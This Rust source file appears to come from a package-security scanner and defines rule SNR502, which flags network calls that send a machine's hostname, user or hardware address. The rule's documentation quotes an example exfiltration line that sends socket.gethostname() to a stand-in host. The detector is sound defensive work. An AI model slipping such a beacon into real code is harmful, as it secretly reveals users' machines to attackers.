//! The identity of the machine or its user, sent away.

use crate::core::finding::{Confidence, Kind, Rule, Severity};
use crate::firewall::check::{Check, Objections};
use crate::firewall::fact::{Fact, FactKind, Place};
use crate::firewall::tables::Sink;
use crate::firewall::value::{Abstract, Marks, Value};

pub(crate) static CHECK: Check = Check { rule: &RULE, sees: &[FactKind::Call], look };

pub(crate) static RULE: Rule = Rule {
    id: "SNR502",
    name: "host-leaves",
    kind: Kind::Violation,
    cwe: 200,
    severity: Severity::High,
    confidence: Confidence::Medium,
    help: "do not run this plugin; it tells somebody on which machine it runs",
    docs: r#"## What it does

Looks for the name of the machine, its user, its hardware address or its folders that are sent over the network.

## Why it is bad

It is how an attacker learns where a package was installed, before the rest of the attack.

## Example

    requests.get("https://x.example/?h=" + socket.gethostname())

## Fix

Count installations some other way.

## References

[CWE-200](https://cwe.mitre.org/data/definitions/200.html), [CWE-497](https://cwe.mitre.org/data/definitions/497.html)
"#,
};

fn look(fact: &Fact<'_>, place: &Place<'_>, out: &mut Objections<'_>) {
    let Fact::Call(call) = fact else { return };
    if call.member.and_then(|member| member.sink) != Some(Sink::Net) {
        return;
    }
    let Some(argument) = call.arguments.all().find(|argument| tells(argument, 0)) else { return };
    let path = call.path.trim_start_matches(['?', '.']);
    out.object_to(
        &RULE,
        place,
        call.span,
        argument,
        format!("the identity of this machine or its user is sent by `{path}`"),
    );
}

fn tells(value: &Abstract, depth: usize) -> bool {
    if value.marks.has(Marks::HOST) {
        return true;
    }
    if depth > 4 {
        return false;
    }
    match &value.value {
        Value::Sequence(parts) => parts.iter().take(64).any(|part| tells(part, depth + 1)),
        Value::Dict(pairs) => pairs.iter().take(64).any(|(_, part)| tells(part, depth + 1)),
        _ => false,
    }
}
